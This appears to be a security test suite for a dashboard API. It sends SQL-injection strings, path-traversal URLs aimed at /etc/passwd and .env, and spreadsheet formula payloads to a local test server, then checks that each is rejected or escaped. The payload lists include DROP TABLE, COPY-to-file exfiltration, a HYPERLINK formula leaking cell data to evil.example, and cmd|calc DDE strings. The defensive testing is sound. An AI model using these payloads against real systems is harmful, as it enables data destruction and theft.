/**
 * Hostile input against a real server: SQL-injection strings in every parameter of every
 * model (names read from the catalog's param schemas) and in group_by / sort / search /
 * format / parameter names — each answered 400 with the issues, or treated as a literal (a
 * filter on it matches nothing), and afterwards every table is still there with the same
 * row count; path traversal and odd names in board, tile and model names — 404 (or 400),
 * never a file, never a 500 or a stack trace; spreadsheet formula injection — names that
 * begin with = + - @ tab or CR come out escaped in CSV and XLSX, negative numbers stay numbers.
 */
import http from 'node:http';
import { existsSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { columnLabel } from '../../src/lib/i18n/columns';
import { AS_OF, SECRET, qs, sign, startSecServer, type CatalogEntry, type SecServer } from './helpers';

let srv: SecServer;
let exec: string;
let catalog: CatalogEntry[];
let counts: Record<string, number>;

/** The deal whose names are formula payloads, and what they are. */
const FORMULA = {
  deal: '+1+1 cmd|calc',
  customer: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  owner: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  team: '-2+3',
  lossReason: '\t=1+1',
  product: '\r=1+2',
  amount: -1234.5
};
let formulaDeal = '';

const TABLES = ['teams', 'users', 'customers', 'opportunities', 'opportunity_versions', 'payments', 'activities', 'targets', 'forecast_snapshots', 'meta'];
const countSql = TABLES.map((t) => `(SELECT count(*) FROM ${t})::INTEGER AS ${t}`).join(', ');

beforeAll(async () => {
  srv = await startSecServer(async (conn) => {
    const id = (await conn.runAndReadAll(`SELECT min(opportunity_id) AS id FROM opportunities WHERE status = 'lost' AND customer_id IS NOT NULL`)).getRowObjectsJson()[0].id as string;
    formulaDeal = id;
    const esc = (s: string) => `'${s.replace(/'/g, "''")}'`;
    await conn.run(`UPDATE opportunities SET name = ${esc(FORMULA.deal)}, loss_reason = ${esc(FORMULA.lossReason)}, product = ${esc(FORMULA.product)},
                    amount = ${FORMULA.amount} WHERE opportunity_id = ${esc(id)}`);
    await conn.run(`UPDATE customers SET name = ${esc(FORMULA.customer)} WHERE customer_id = (SELECT customer_id FROM opportunities WHERE opportunity_id = ${esc(id)})`);
    await conn.run(`UPDATE users SET name = ${esc(FORMULA.owner)} WHERE user_id = (SELECT owner_id FROM opportunities WHERE opportunity_id = ${esc(id)})`);
    await conn.run(`UPDATE teams SET name = ${esc(FORMULA.team)} WHERE team_id = (SELECT u.team_id FROM users u JOIN opportunities o ON o.owner_id = u.user_id WHERE o.opportunity_id = ${esc(id)})`);
    // The data changed: derived facts are rebuilt before the next query.
    await conn.run(`UPDATE meta SET value = (value::INTEGER + 1)::VARCHAR WHERE key = 'data_version'`);
  });
  exec = await sign({ sub: 'ceo', role: 'executive' });
  catalog = (await (await fetch(`${srv.base}/api/models`, { headers: { authorization: `Bearer ${exec}` } })).json()).models;
  counts = (await srv.oracle(`SELECT ${countSql}`))[0] as Record<string, number>;
});
afterAll(() => srv?.stop());

const get = (path: string, token = exec) => fetch(`${srv.base}${path}`, { headers: { authorization: `Bearer ${token}` } });

const PAYLOADS = [
  "' OR 1=1 --",
  "1; DROP TABLE opportunities",
  '") UNION SELECT name, user_id FROM users --',
  "%27%20OR%20%271%27%3D%271",
  "x\u0000' OR '1'='1",
  "'; COPY (SELECT * FROM users) TO '/tmp/cockpit-pwned.csv'; --",
  'A'.repeat(5000),
  "客户名称' OR 名称 LIKE '%不存在%' --",
  '\\\'; DROP TABLE users; --',
  "$1) OR (1=1",
  "T11' UNION ALL SELECT * FROM main.opportunities --",
  "🙂‮' OR ''='"
];

/** A param that filters rows: a literal that names nothing must leave nothing. */
const NON_FILTERING = new Set(['potential_field']);

describe('SQL injection', () => {
  it('every parameter of every model: 400 with issues, or a literal that matches nothing', async () => {
    let k = 0;
    const seen = { rejected: 0, literal: 0 };
    const baseline = new Map<string, number>();
    for (const m of catalog) {
      const names = Object.keys(m.params.properties);
      expect(names.length, m.name).toBeGreaterThan(5);
      for (const name of names) {
        // One payload per parameter, rotating through the list (bounded request count).
        for (const payload of [PAYLOADS[k % PAYLOADS.length]]) {
          const params: Record<string, string> = { as_of: AS_OF, [name]: payload };
          if (m.name === 'deal' && name !== 'id') params.id = 'NO-SUCH-DEAL';
          const r = await get(`/api/models/${m.name}?${qs(params)}`);
          const body = await r.json();
          const where = `${m.name}.${name} = ${JSON.stringify(payload.slice(0, 60))}`;
          expect([200, 400], `${where}: ${JSON.stringify(body).slice(0, 300)}`).toContain(r.status);
          if (r.status === 400) {
            seen.rejected++;
            expect(Array.isArray(body.issues) && body.issues.length > 0, where).toBe(true);
            expect(body.issues.join(' '), where).toContain(name);
          } else if (m.name === 'options' && name !== 'as_of') {
            // A filter narrows what options counts (a token's locked filters arrive this way): the
            // literal matches no deal, so teams, owners and stages are listed with nothing counted.
            seen.literal++;
            expect(body.rows.every((r: { n: number }) => r.n === 0), where).toBe(true);
          } else if (NON_FILTERING.has(name)) {
            // Not a row filter: the literal changes nothing.
            seen.literal++;
            if (!baseline.has(m.name)) baseline.set(m.name, (await (await get(`/api/models/${m.name}?as_of=${AS_OF}`)).json()).n);
            expect(body.n, where).toBe(baseline.get(m.name));
          } else {
            seen.literal++;
            // Treated as a literal: no team, owner, stage, search text or id is called that.
            expect(body.n, where).toBe(0);
          }
        }
        k++;
      }
    }
    // Both outcomes happened: strings where the schema allows them, 400 where it does not.
    expect(seen.rejected).toBeGreaterThan(30);
    expect(seen.literal).toBeGreaterThan(15);
  });

  it('group_by, sort, search, format and parameter names', async () => {
    const bad = "owner; DROP TABLE opportunities --";
    for (const [path, param] of [
      [`/api/models/funnel?group_by=${encodeURIComponent(bad)}`, 'group_by'],
      [`/api/models/deals?sort=${encodeURIComponent('amount DESC; DROP TABLE users')}`, 'sort'],
      [`/api/models/deals?sort=${encodeURIComponent('(SELECT 1)')}`, 'sort'],
      [`/api/models/deals?dir=${encodeURIComponent('asc, (SELECT 1)')}`, 'dir'],
      [`/api/models/leaderboard?rank_by=${encodeURIComponent('won_amount"--')}`, 'rank_by'],
      [`/api/models/payment_list?date_field=${encodeURIComponent('due_date) OR 1=1 --')}`, 'date_field'],
      [`/api/models/deals?${encodeURIComponent('"; DROP TABLE x;--')}=1`, 'DROP TABLE'],
      [`/api/models/deals?limit=${encodeURIComponent('1; DROP TABLE x')}`, 'limit']
    ] as const) {
      const r = await get(`${path}&as_of=${AS_OF}`);
      expect(r.status, path).toBe(400);
      const body = await r.json();
      expect(body.issues.join(' '), path).toContain(param);
    }
    const ex = await get(`/api/models/deals/export?format=${encodeURIComponent("csv' OR 1=1")}`);
    expect(ex.status).toBe(400);
    expect((await ex.json()).error).toMatch(/^format: expected one of csv, xlsx/);
    // Search is a literal "contains": the payload finds nothing, a real fragment finds its rows.
    for (const q of ["' OR 1=1 --", "%' OR '%'='", '_%_']) {
      const r = await (await get(`/api/models/deals?${qs({ as_of: AS_OF, period: 'all', q })}`)).json();
      expect(r.summary.total, q).toBe(0);
    }
    const [{ n }] = await srv.oracle(`SELECT count(*)::INTEGER AS n FROM opportunities o LEFT JOIN customers c USING (customer_id)
        WHERE contains(lower(o.name), '+1+1') OR contains(lower(c.name), '+1+1') OR contains(lower(o.opportunity_id), '+1+1')`);
    expect(n).toBeGreaterThan(0);
    const found = await (await get(`/api/models/deals?${qs({ as_of: AS_OF, period: 'all', q: '+1+1' })}`)).json();
    expect(found.summary.total).toBe(n);
    // Export with an injected filter: a header and no rows.
    const csv = await (await get(`/api/models/deals/export?${qs({ format: 'csv', period: 'all', as_of: AS_OF, owner: "' OR 1=1 --" })}`)).text();
    expect(csv.trim().split('\r\n')).toHaveLength(1);
  });
});

/** GET with the path sent exactly as written (fetch would normalise `%2e%2e` away). */
function rawGet(path: string, token = exec): Promise<{ status: number; type: string; body: string }> {
  const u = new URL(srv.base);
  return new Promise((res, rej) => {
    const req = http.request({ host: u.hostname, port: u.port, path, headers: { authorization: `Bearer ${token}` } }, (r) => {
      let body = '';
      r.setEncoding('utf8');
      r.on('data', (d) => (body += d));
      r.on('end', () => res({ status: r.statusCode ?? 0, type: String(r.headers['content-type'] ?? ''), body }));
    });
    req.on('error', rej);
    req.end();
  });
}

describe('path traversal and odd names in board, tile and model names', () => {
  const PATHS = [
    '/embed/..%2f..%2fetc%2fpasswd',
    '/embed/pipeline/..%2f',
    '/embed/pipeline/..%2f..%2f..%2fpackage.json',
    '/embed/%2e%2e%2f%2e%2e%2fpackage.json',
    '/embed/..%5c..%5cpackage.json',
    '/embed/pipeline/..%5c..%5c.env',
    '/embed/__proto__',
    '/embed/pipeline/constructor',
    '/embed/pipeline%00',
    '/embed/%ff%fe',
    '/embed/pipeline/%E0%A4%A',
    '/boards/..%2f..%2fetc%2fpasswd',
    '/boards/%5c..%5c..%5cpackage.json',
    '/boards/__proto__',
    '/boards/pipeline%00',
    '/api/models/..%2fconfig',
    '/api/models/..%2f..%2fpackage.json',
    '/api/models/kpis%00',
    '/api/models/kpis%2f..%2f..%2fpackage.json',
    '/api/models/..%5c..%5cpackage.json',
    '/api/models/__proto__',
    '/api/models/constructor',
    '/api/models/kpis/export/..%2f..%2fpackage.json',
    '/api/models/..%2fdeals/export?format=csv',
    '/_app/..%2f..%2fpackage.json',
    '/_app/immutable/..%2f..%2f..%2f..%2fetc%2fpasswd',
    '/..%2f..%2f..%2fetc%2fpasswd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/embed.js/..%2f..%2fpackage.json',
    '/static/..%2f..%2fpackage.json'
  ];
  it('404 (or 400), never a file, never a 500 or a stack trace', async () => {
    const ownPackage = await import('../../package.json', { with: { type: 'json' } });
    for (const p of PATHS) {
      const r = await rawGet(p);
      expect([400, 404], `${p} → ${r.status} ${r.body.slice(0, 200)}`).toContain(r.status);
      expect(r.body, p).not.toMatch(/root:x:0:0|"devDependencies"|COCKPIT_SECRET|\bat .+\.(js|ts):\d+/);
      expect(r.body, p).not.toContain(ownPackage.default.description);
      expect(r.body, p).not.toContain(SECRET);
    }
  });

  it('dot segments in the URL resolve like any URL: to an existing page, never outside the app', async () => {
    // `/boards/%2e%2e` is `/` by the URL standard; whatever it resolves to is one of our pages.
    for (const p of ['/boards/%2e%2e', '/boards/pipeline/%2e%2e', '/embed/%2e%2e/%2e%2e/etc/passwd']) {
      const r = await rawGet(p);
      expect([200, 303, 307, 308, 404], p).toContain(r.status);
      expect(r.body, p).not.toMatch(/root:x:0:0|"devDependencies"|\bat .+\.(js|ts):\d+/);
    }
  });

  it('real board and tile embeds still open (the shell, which takes its token from the host)', async () => {
    for (const p of ['/embed/pipeline', '/embed/pipeline/funnel', '/embed/wall-overview/kpis', `/embed/${encodeURIComponent('pipeline')}/${encodeURIComponent('funnel')}`]) {
      const r = await rawGet(p);
      expect(r.status, p).toBe(200);
      expect(r.type).toMatch(/text\/html/);
    }
  });
});

/** RFC 4180 CSV → rows of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field), rows.push(row), (row = []), (field = ''), i++;
    } else field += ch;
  }
  if (field || row.length) row.push(field), rows.push(row);
  return rows;
}

describe('spreadsheet formula injection', () => {
  const cols = ['opportunity_id', 'name', 'customer_name', 'owner_name', 'team_name', 'product', 'loss_reason', 'amount'] as const;
  const expected: Record<string, string> = {
    name: `'${FORMULA.deal}`,
    customer_name: `'${FORMULA.customer}`,
    owner_name: `'${FORMULA.owner}`,
    team_name: `'${FORMULA.team}`,
    product: `'${FORMULA.product}`,
    loss_reason: `'${FORMULA.lossReason}`
  };
  const exportUrl = (format: string) => `/api/models/deals/export?${qs({ format, as_of: AS_OF, period: 'all', q: '+1+1', lang: 'en' })}`;

  it('CSV: cells beginning with = + - @ tab or CR are prefixed with a quote; negative numbers stay numbers', async () => {
    const r = await get(exportUrl('csv'));
    expect(r.status).toBe(200);
    const [head, ...rows] = parseCsv((await r.text()).replace(/^\uFEFF/, ''));
    const at = (c: string) => head.indexOf(columnLabel(c, 'en'));
    for (const c of cols) expect(at(c), c).toBeGreaterThanOrEqual(0);
    const row = rows.find((x) => x[at('opportunity_id')] === formulaDeal)!;
    expect(row).toBeDefined();
    for (const [c, v] of Object.entries(expected)) expect(row[at(c)], c).toBe(v);
    expect(row[at('amount')]).toBe(String(FORMULA.amount));
  });

  it('XLSX: the same cells are text (not formulas) with the quote; negative numbers are numbers', async () => {
    const r = await get(exportUrl('xlsx'));
    expect(r.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await r.arrayBuffer()) as ArrayBuffer);
    const ws = wb.worksheets[0];
    const head = (ws.getRow(1).values as unknown[]).map(String);
    const at = (c: string) => head.indexOf(columnLabel(c, 'en'));
    let found = 0;
    let formulas = 0;
    ws.eachRow((row, i) => {
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas++;
      });
      if (i === 1 || row.getCell(at('opportunity_id')).value !== formulaDeal) return;
      found++;
      for (const [c, v] of Object.entries(expected)) {
        const cell = row.getCell(at(c));
        expect(cell.type, c).toBe(ExcelJS.ValueType.String);
        // XML reads a CR in text as a line feed (line-end normalisation); the quote is what matters.
        expect(String(cell.value).replace(/\r/g, '\n'), c).toBe(v.replace(/\r/g, '\n'));
      }
      const amount = row.getCell(at('amount'));
      expect(amount.type).toBe(ExcelJS.ValueType.Number);
      expect(amount.value).toBe(FORMULA.amount);
    });
    expect(found).toBe(1);
    expect(formulas).toBe(0);
  });
});

describe('after all the hostile input', () => {
  it('every table is still there with the same number of rows', async () => {
    // Through the API (the server's own view) …
    const funnel = await (await get(`/api/models/funnel?period=all&as_of=${AS_OF}`)).json();
    expect(funnel.n).toBe(counts.opportunities);
    const pays = await (await get(`/api/models/payment_list?period=all&as_of=${AS_OF}&limit=1`)).json();
    expect(pays.summary.total).toBe(counts.payments);
    // … and in the file itself, once the server has let go of it.
    await srv.kill();
    const inst = await DuckDBInstance.create(srv.dbFile, { access_mode: 'READ_ONLY' });
    const conn = await inst.connect();
    expect((await conn.runAndReadAll(`SELECT ${countSql}`)).getRowObjectsJson()[0]).toEqual(counts);
    conn.closeSync();
    inst.closeSync();
    expect(existsSync('/tmp/cockpit-pwned.csv')).toBe(false);
  });
});
